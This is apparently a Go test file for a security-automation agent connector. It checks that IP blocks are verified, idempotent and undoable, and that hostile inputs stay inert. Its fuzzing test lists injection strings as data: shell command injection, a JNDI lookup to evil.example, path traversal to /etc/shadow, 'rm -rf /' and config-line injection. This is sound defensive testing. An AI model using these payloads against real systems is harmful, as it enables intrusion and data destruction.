package agent_test

import (
	"context"
	"crypto/sha256"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/riposte-soar/riposte/agent"
	"github.com/riposte-soar/riposte/connector"
	agentconn "github.com/riposte-soar/riposte/connector/agent"
	"github.com/riposte-soar/riposte/internal/agenttest"
)

// setup runs an agent for host "victim" in its own namespace, with host
// operations limited to files under dir/files.
func setup(t *testing.T) (*agenttest.Env, *agentconn.Connector, string, func() map[string][32]byte) {
	t.Helper()
	e := agenttest.NewEnv(t)
	l := agenttest.NewNS(t)
	dir := t.TempDir()
	files := filepath.Join(dir, "files")
	os.MkdirAll(files, 0o755)
	os.WriteFile(filepath.Join(files, "app.conf"), []byte("PermitRootLogin yes\n"), 0o644)
	os.WriteFile(filepath.Join(files, "app.log"), []byte("a\nb\n"), 0o644)
	id := e.Enroll("victim", filepath.Join(dir, "agent"))
	ra := agenttest.StartAgent(t, l, filepath.Join(dir, "agent"), func(c *agent.Config) {
		c.HostOps.QuarantinePaths = []string{files}
		c.HostOps.EvidencePaths = []string{files}
		c.HostOps.ConfigFiles = []string{filepath.Join(files, "app.conf")}
		c.HostOps.LogFiles = []string{filepath.Join(files, "app.log")}
	})
	t.Cleanup(ra.Stop)
	agenttest.WaitAgent(t, e, id.AgentID)
	c, err := agentconn.New(e.Fleet, e.Decisions, agentconn.Config{Wait: 3 * time.Second,
		Remediations: map[string][]string{"sshd": {"/bin/true"}}})
	if err != nil {
		t.Fatal(err)
	}
	// snapshot hashes every file under dir and the system files an
	// injection would go for, to prove nothing was written elsewhere.
	snapshot := func() map[string][32]byte {
		out := map[string][32]byte{}
		filepath.Walk(files, func(p string, info os.FileInfo, err error) error {
			if err == nil && info.Mode().IsRegular() {
				b, _ := os.ReadFile(p)
				out[p] = sha256.Sum256(b)
			}
			return nil
		})
		for _, p := range []string{"/etc/passwd", "/etc/shadow", "/etc/hosts"} {
			b, _ := os.ReadFile(p)
			out[p] = sha256.Sum256(b)
		}
		return out
	}
	return e, c, dir, snapshot
}

func call(op string, args map[string]any) connector.Call {
	return connector.Call{Operation: op, Args: args, RunID: "run1", StepID: "s1", IdempotencyKey: "run1:s1:" + op + ":1", Incident: "INC1"}
}

func TestBlockIsVerifiedAndUndone(t *testing.T) {
	e, c, _, _ := setup(t)
	ctx := context.Background()
	res, err := c.Execute(ctx, call("block_ip", map[string]any{"address": "203.0.113.50", "ttl": "1h", "reason": "test"}))
	if err != nil {
		t.Fatal(err)
	}
	if res.Outputs["verified"] != true || res.Undo == nil || res.Undo.Operation != "unblock_ip" {
		t.Fatalf("block: %+v", res)
	}
	ds, _ := e.Decisions.List(ctx, false, time.Now())
	if len(ds) != 1 || ds[0].Incident != "INC1" || ds[0].Owner != "playbook:run1" {
		t.Fatalf("decision: %+v", ds)
	}
	// The engine retries a step with a new attempt number: the same
	// decision, not a second offense with a longer ban.
	again := call("block_ip", map[string]any{"address": "203.0.113.50", "ttl": "1h", "reason": "test"})
	again.IdempotencyKey += ":retry"
	res2, err := c.Execute(ctx, again)
	if err != nil || res2.Outputs["decision"] != res.Outputs["decision"] || res2.Outputs["offense"] != 1 {
		t.Fatalf("retry: %+v %v (first %+v)", res2.Outputs, err, res.Outputs)
	}
	res, err = c.Execute(ctx, call(res.Undo.Operation, res.Undo.Args))
	if err != nil || res.Outputs["verified"] != true {
		t.Fatalf("undo: %+v %v", res, err)
	}
	if ds, _ := e.Decisions.List(ctx, false, time.Now()); len(ds) != 0 {
		t.Fatalf("still active after undo: %+v", ds)
	}
	// Containment through the raw command operation is refused: it would
	// not be a decision, so the agent would undo it.
	if _, err := c.Execute(ctx, call("command", map[string]any{"host": "victim", "command": map[string]any{"action": "deny",
		"target": map[string]any{"ipv4_net": "203.0.113.60"}}})); connector.ClassOf(err) != connector.Permanent || !strings.Contains(err.Error(), "block_ip") {
		t.Fatalf("raw deny: %v", err)
	}
	// A block with no agent to enforce it on that host is recorded, and
	// says so rather than claiming success on the host.
	res, err = c.Execute(ctx, call("block_ip", map[string]any{"address": "203.0.113.51", "host": "nohost"}))
	if err != nil || res.Outputs["verified"] != false || !strings.Contains(res.Summary, "no enrolled agent") {
		t.Fatalf("block on a host without agent: %+v %v", res, err)
	}
}

// TestHostileValuesStayInert sends values an attacker controls (they come
// from events and alerts) through every argument of every operation of the
// agent connector, against a real agent: each is refused or handled as
// data; nothing runs, nothing is written outside its place, and nothing
// hostile reaches the firewall.
func TestHostileValuesStayInert(t *testing.T) {
	e, c, dir, snapshot := setup(t)
	canary := filepath.Join(dir, "pwned")
	hostile := []string{
		"; touch " + canary, "$(touch " + canary + ")", "`touch " + canary + "`", "| touch " + canary, "&& touch " + canary,
		"{{.}}", `{{template "x"}}`, "${jndi:ldap://evil.example/a}", "%s%s%n",
		"../../../../etc/passwd", dir + "/files/../../../etc/shadow", "/etc/shadow", "..\\..\\windows",
		"203.0.113.9; rm -rf /", "203.0.113.9\nPermitRootLogin yes", "victim; id", "victim\x00evil",
		strings.Repeat("A", 1<<20),
	}
	before := snapshot()
	ctx := context.Background()
	spec := c.Spec()
	var ops []string
	for op := range spec.Operations {
		ops = append(ops, op)
	}
	sort.Strings(ops)
	valid := map[string]any{"host": "victim", "address": "203.0.113.9", "pid": 999999, "path": filepath.Join(dir, "files", "app.log"),
		"key": "PermitRootLogin", "value": "no", "name": "sshd", "account": "nobody-here", "backup": "b1", "reason": "x", "ttl": "1h",
		"decision": "d1", "lines": 5, "sha256": strings.Repeat("a", 64), "command": map[string]any{"action": "query", "target": map[string]any{"features": []any{}}}}
	n := 0
	for _, op := range ops {
		for arg, as := range spec.Operations[op].Args {
			if as.Type != "string" {
				continue
			}
			for _, v := range hostile {
				args := map[string]any{}
				for a, s := range spec.Operations[op].Args {
					if s.Required || a == arg {
						args[a] = valid[a]
					}
				}
				args[arg] = v
				// Operations that wait long for the host (collect, upgrade:
				// up to 16 minutes) must not stall the test on one lost
				// answer: an unanswered call is an error like a refusal,
				// and the canary below still proves nothing ran.
				cctx, cancel := context.WithTimeout(ctx, time.Minute)
				res, err := c.Execute(cctx, call(op, args))
				cancel()
				n++
				if err == nil && (arg == "host" || arg == "address" || arg == "path") {
					t.Errorf("%s %s=%.40q was accepted: %s", op, arg, v, res.Summary)
				}
				if _, err := os.Stat(canary); err == nil {
					t.Fatalf("%s %s=%.40q ran a command", op, arg, v)
				}
			}
		}
	}
	after := snapshot()
	for p, h := range before {
		if after[p] != h {
			// Only the config value may change, and only to a value
			// given as data.
			if strings.HasSuffix(p, "app.conf") {
				b, _ := os.ReadFile(p)
				if strings.Count(string(b), "\n") == 1 && !strings.ContainsAny(string(b), ";`$|&") {
					continue
				}
				t.Errorf("%s changed to %q", p, b)
				continue
			}
			t.Errorf("%s changed", p)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("new file %s", p)
		}
	}
	ds, _ := e.Decisions.List(ctx, true, time.Now())
	for _, d := range ds {
		if d.Target != "203.0.113.9/32" && d.Target != "victim" {
			t.Errorf("a decision on %q was recorded", d.Target)
		}
	}
	t.Logf("%d hostile calls", n)
}
